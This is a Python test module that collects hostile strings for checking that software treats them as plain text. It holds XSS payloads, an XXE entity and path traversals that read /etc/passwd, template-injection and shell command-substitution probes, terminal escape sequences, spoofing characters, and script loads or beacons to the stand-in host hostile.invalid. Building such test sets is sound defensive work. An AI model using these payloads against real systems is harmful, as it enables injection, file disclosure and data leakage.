"""Strings that models, corpora, notes and ledgers may hold, each harmful where it is taken for more than text.

What runs in a page sets `window.owned` or opens a dialog; `Browser` notes both. What reaches the network asks for
`hostile.invalid`, which exists nowhere.
"""

from __future__ import annotations

SETS = "window.owned=1"

MARKUP = {
    "script": f"<script>{SETS}</script>",
    "script in capitals": f"<SCRIPT>{SETS}</SCRIPT >",
    "script with attributes": f'<script type="module" async>{SETS}</script>',
    "script from elsewhere": "<script src=https://hostile.invalid/run.js></script>",
    "script ends early": f"</script><script>{SETS}</script>",
    "script split": f"<scr<script>ipt>{SETS}</scr</script>ipt>",
    "dialog": "<script>alert('owned')</script>",
    "textarea ends": f"</textarea><script>{SETS}</script>",
    "style ends": f"</style><script>{SETS}</script>",
    "title ends": f"</title><script>{SETS}</script>",
    "template ends": f"</template></noscript></iframe><script>{SETS}</script>",
    "table ends": f"</td></tr></table></main></body><script>{SETS}</script>",
    "details and summary end": f"</summary></details><img src=y onerror={SETS}>",
    "select ends": f"</option></select><svg/onload={SETS}>",
    "comment opens": "<!-- what follows is gone",
    "comment ends": f"--><script>{SETS}</script><!--",
    "comment in a script": "<!--<script>",
    "character data ends": f"]]><script>{SETS}</script>",
    "processing instruction": f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{SETS}</x:script>",
    "document type": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "image handler": f"<img src=x onerror={SETS}>",
    "image quoted": f'"><img src="x" onerror="{SETS}">',
    "svg handler": f"<svg onload={SETS}>",
    "svg ends": f"</svg></text><svg><script>{SETS}</script></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.owned=1>#x'></use></svg>",
    "svg animate": f"<svg><animate onbegin={SETS} attributeName=x dur=1s></svg>",
    "mathematics": f"<math><mtext></mtext><mglyph><style><img src=x onerror={SETS}></style></mglyph></math>",
    "details toggle": f"<details open ontoggle={SETS}>",
    "autofocus": f"<input autofocus onfocus={SETS}>",
    "marquee": f"<marquee onstart={SETS}>",
    "media": f"<video><source onerror={SETS}></video>",
    "body handler": f"<body onload={SETS} onpageshow={SETS}>",
    "frame with a document": f"<iframe srcdoc='<script>parent.{SETS}</script>'></iframe>",
    "frame of an address": f"<iframe src=javascript:parent.{SETS}></iframe>",
    "object": "<object data='data:text/html,<script>parent.owned=1</script>'></object>",
    "embed": "<embed src=//hostile.invalid/a.swf>",
    "form": "<form action=https://hostile.invalid/><button autofocus>Send</button></form>",
    "base": "<base href=https://hostile.invalid/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://hostile.invalid/'>",
    "link to a style": "<link rel=stylesheet href=//hostile.invalid/a.css>",
    "prefetch": "<link rel=dns-prefetch href=//hostile.invalid>",
    "link": f"<a href='javascript:{SETS}'>a link</a>",
    "bold": "<b>bold</b><u>underlined</u><sup>2</sup>",
    "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &#x202e;",
    "entity without end": "&ltscript&gt &copy &#x3c",
}

ATTRIBUTES = {
    "double quote": f'" onmouseover="{SETS}" x="',
    "single quote": f"' onmouseover='{SETS}' x='",
    "back quote": f"` onmouseover={SETS} x=`",
    "no quote": f"x onmouseover={SETS} autofocus onfocus={SETS}",
    "greater": f"> onerror={SETS} <",
    "equals and space": f"a=b onclick={SETS} style=color:red",
}

ADDRESSES = {
    "javascript": f"javascript:{SETS}",
    "javascript disguised": f"\x01 jAvA\tscript&colon;{SETS}//",
    "data page": "data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+",
    "external": "https://hostile.invalid/?seen",
    "without scheme": "//hostile.invalid/seen.png",
    "file": "file:///etc/passwd",
    "traversal": "../../../../etc/passwd",
    "traversal of Windows": "..\\..\\windows\\system32",
    "traversal encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
}

LANGUAGES = {
    "style breaks out": "red;} body{display:none} x{background:url(https://hostile.invalid/css)",
    "style import": "'; @import url(//hostile.invalid/a.css); x{y:'",
    "style expression": "width:expression(window.owned=1);-moz-binding:url(//hostile.invalid)",
    "template braces": "{{ 7 * 7 }} {% raw %} {# gone #} {{ config }}",
    "template statements": "{% endraw %}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "template literal": "`${window.owned = 1}`",
    "string of a script ends": "');window.owned=1;//\";window.owned=1;//",
    "line separators of a script": "a\u2028window.owned=1\u2029b",
    "prototype": "__proto__",
    "constructor": "constructor",
    "percent format": "%s %n %d %(name)s %x",
    "brace format": "{0.__class__.__init__.__globals__} {name!r:>{width}}",
    "shell": "$(touch owned) `touch owned` ; touch owned | cat && x",
    "figure's markup": f"<a href='javascript:{SETS}'>x</a><br><i>i</i>%{{x}}<extra>hidden</extra>",
    "mathematics of a figure": r"$\href{javascript:window.owned=1}{x}\color{red}\sum_{i=1}^{n}$",
}

MARKDOWN = {
    "link of Markdown": f"[click](javascript:{SETS}) ![picture](https://hostile.invalid/x.png)",
    "reference of Markdown": f"[x]: javascript:{SETS}",
    "autolink": "<https://hostile.invalid/auto> <javascript:window.owned=1>",
    "table of Markdown": "a | b || c \\| d",
    "code of Markdown": "``` ` ~~~ </code></pre> **bold** _x_ # heading",
    "block that runs": '<<execute id="9">> print(1) <</execute>>',
}

TERMINAL = {
    "colours of a terminal": "\x1b[31mred\x1b[0m",
    "screen cleared": "\x1b[2J\x1b[H\x1b[3Jgone",
    "title of a terminal": "\x1b]0;owned\x07",
    "link of a terminal": "\x1b]8;;https://hostile.invalid\x1b\\here\x1b]8;;\x1b\\",
    "control sequences of one byte": "\x9b31m\x9d0;owned\x9c",
    "carriage return": "refuted\rsupported",
    "backspaces": "refuted\x08\x08\x08\x08\x08\x08\x08gone",
    "bell": "a\x07\x0b\x0c\x7fb",
    "markup of rich": "[bold red]bold[/bold red] [link=https://hostile.invalid]x[/link] [/]",
    "markup of rich, damaged": "[/nothing] [[] \\[bold] :warning:",
    "test id": "test_a[seed-0]::test_b[x]",
}

CHARACTERS = {
    "nothing at the end": "end\x00<b>after</b>",
    "right to left": "\u202etxt.exe\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "marks of direction": "\u200fabc\u200e \u061c",
    "right-to-left letters": "שלום < مرحبا > 5",
    "zero width": "sup\u200bpor\u200cted\u200d\ufeff\u2060",
    "soft hyphens": "re\u00adfuted",
    "combining stack": "Z" + "\u0301\u0323\u0337\u0489\u035b" * 12,
    "emoji": "👩‍👩‍👧‍👦 🏴‍☠️ 🇩🇪 ❤️",
    "tags": "\U000e0041\U000e007f\U000e0001",
    "variation selectors": "a\ufe0f\ufe0e\U000e0100",
    "spaces": "\u00a0\u2003\u3000\u1680 end",
    "private and unassigned": "\ue000\U0010ffff\ufffe\uffff",
    "replacement": "�\ufffc",
    "look-alikes": "ѕuрроrtеd ⟨U+0041⟩ ＜script＞",
    "letters that grow": "ﷺ ŉ İ ß ǅ ﬃ",
    "one long word": "x" * 4000,
    "one long markup": "<" * 500 + "b" + ">" * 500,
    "backslashes": "\\ \\\\ \\n \\u003cscript\\u003e \\x3cb\\x3e",
}

HOSTILE: dict[str, str] = {**MARKUP, **ATTRIBUTES, **ADDRESSES, **LANGUAGES, **MARKDOWN, **TERMINAL, **CHARACTERS}
"""Name → string. Each fits into UTF-8, JSON, HTML and safetensors; NUL fits into no path and no argument."""

UNPAIRED = "half of a pair \ud83d, the other half \ude00"
"""Surrogates that JSON can bring and that UTF-8 cannot write."""
